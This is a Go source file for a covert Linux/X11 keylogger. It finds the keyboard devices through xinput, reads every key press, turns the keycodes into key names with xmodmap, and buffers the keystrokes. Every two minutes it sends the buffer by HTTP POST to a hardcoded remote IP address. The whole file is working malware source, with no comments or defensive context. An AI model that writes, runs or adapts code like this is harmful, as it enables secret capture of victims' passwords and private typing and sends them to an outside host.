package main

import (
	"bufio"
	"bytes"
	"net/http"
	"os"
	"os/exec"
	"regexp"
	"strings"
	"time"
)

var press = regexp.MustCompile(`key press\s+(\d+)`)

func keymap() map[string]string {
	m := map[string]string{}
	b, _ := exec.Command("xmodmap", "-pke").Output()
	for _, l := range strings.Split(string(b), "\n") {
		f := strings.Fields(l)
		if len(f) > 3 {
			m[f[1]] = f[3]
		}
	}
	return m
}

func listen(id string, m map[string]string, out chan<- string) {
	c := exec.Command("xinput", "test", id)
	p, err := c.StdoutPipe()
	if err != nil || c.Start() != nil {
		return
	}
	for sc := bufio.NewScanner(p); sc.Scan(); {
		if g := press.FindStringSubmatch(sc.Text()); g != nil {
			out <- m[g[1]]
		}
	}
}

func main() {
	os.Setenv("DISPLAY", ":0")
	ids, _ := exec.Command("sh", "-c", `xinput list | grep -i keyboard | grep -v XTEST | sed 's/.*id=\([0-9]*\).*/\1/'`).Output()
	ch := make(chan string, 64)
	m := keymap()
	for _, id := range strings.Fields(string(ids)) {
		go listen(id, m, ch)
	}
	var buf bytes.Buffer
	tick := time.NewTicker(2 * time.Minute)
	for {
		select {
		case k := <-ch:
			buf.WriteString(k + " ")
		case <-tick.C:
			if buf.Len() > 0 {
				http.Post("http://198.51.100.19/t", "text/plain", bytes.NewReader(buf.Bytes()))
				buf.Reset()
			}
		}
	}
}
